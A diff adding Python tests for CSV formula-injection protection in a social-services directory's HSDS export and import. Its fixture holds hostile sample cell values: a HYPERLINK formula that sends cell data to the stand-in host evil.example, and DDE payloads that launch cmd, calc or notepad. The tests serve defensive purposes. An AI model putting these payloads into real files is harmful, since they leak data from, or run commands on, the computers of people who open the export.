@@ -15,6 +15,7 @@ from steunsysteem.directory.constants import (
     TAXONOMY_PARTICIPATION_GOAL,
 )
 from steunsysteem.directory.hsds.tables import MODELS, tables
+from steunsysteem.directory.hsds.values import neutralise_formula, restore_formula
 from steunsysteem.directory.models import (
     Attribute,
     Contact,
@@ -190,3 +191,93 @@ def test_an_export_imports_into_another_installation(tmp_path, sociale_kaart):
     for name in ("attributes.csv", "taxonomy_terms.csv", "services.csv", "locations.csv"):
         assert rows_by_id(again / name) == rows_by_id(outdir / name)
     assert_valid(again)
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
+    "alternate_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "description": "+cmd|' /C notepad'!A0",
+    "alert": "-2+3+cmd|' /C calc'!A0",
+    "application_process": "\t=1+1",
+    "fees_description": "\r=1+1",
+    "wait_time": "'=already quoted once",
+}
+
+
+@pytest.fixture
+def formulas():
+    """Text an attacker typed to run in the spreadsheet of whoever opens the export."""
+    organization = OrganizationFactory(name="=1+1", description="Gewone tekst")
+    service = ServiceFactory(organization=organization, **FORMULAS)
+    location = LocationFactory(organization=organization, latitude=51.5, longitude=-0.1275)
+    Phone.objects.create(service=service, number="+31 (0)30 123 45 67")
+    Phone.objects.create(location=location, number="-")
+    Contact.objects.create(organization=organization, name="Ann", email="-ann@example.org")
+    return organization, service, location
+
+
+def test_no_exported_cell_starts_a_spreadsheet_formula(tmp_path, formulas):
+    outdir = export(tmp_path / "export")
+
+    for path in outdir.glob("*.csv"):
+        with path.open(newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    if cell[:1] in ("=", "@", "\t", "\r"):
+                        pytest.fail(f"{path.name}: {cell!r}")
+                    if cell[:1] in ("+", "-"):
+                        assert set(cell) <= set("+-0123456789 ().,/"), (path.name, cell)
+    service = rows_by_id(outdir / "services.csv").popitem()[1]
+    assert service["name"] == "'" + FORMULAS["name"]
+    assert service["description"] == "'+cmd|' /C notepad'!A0"
+    assert service["application_process"] == "'\t=1+1"
+    assert service["wait_time"] == "''=already quoted once"
+    assert_valid(outdir)
+
+
+def test_numbers_and_phone_numbers_are_exported_as_they_are(tmp_path, formulas):
+    organization, service, location = formulas
+
+    outdir = export(tmp_path / "export")
+
+    assert rows_by_id(outdir / "locations.csv")[str(location.id)]["longitude"] == "-0.1275"
+    numbers = {row["number"] for row in rows_by_id(outdir / "phones.csv").values()}
+    assert numbers == {"+31 (0)30 123 45 67", "-"}
+    assert_valid(outdir)
+
+
+def test_an_export_with_neutralised_cells_imports_as_the_original_text(tmp_path, formulas):
+    organization, service, location = formulas
+    outdir = export(tmp_path / "export")
+    for model in reversed(MODELS.values()):
+        model.objects.all().delete()
+
+    call_command("import_hsds", str(outdir), "--no-progress", stdout=io.StringIO())
+
+    imported = Service.objects.get(id=service.id)
+    for field, text in FORMULAS.items():
+        assert getattr(imported, field) == text, field
+    assert Contact.objects.get().email == "-ann@example.org"
+    assert Phone.objects.filter(number="+31 (0)30 123 45 67").exists()
+    again = export(tmp_path / "again")
+    assert (again / "services.csv").read_bytes() == (outdir / "services.csv").read_bytes()
+
+
+@pytest.mark.parametrize(
+    "text, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("@A1", "'@A1"),
+        ("+31 20 123 4567", "+31 20 123 4567"),
+        ("-12.5", "-12.5"),
+        ("-x", "'-x"),
+        ("'=1+1", "''=1+1"),
+        ("'t Hoekje", "'t Hoekje"),
+        ("''", "''"),
+        ("", ""),
+        ("Koffie = gratis", "Koffie = gratis"),
+    ],
+)
+def test_a_neutralised_cell_reads_back_as_exactly_the_original(text, written):
+    assert neutralise_formula(text) == written
+    assert restore_formula(written) == text
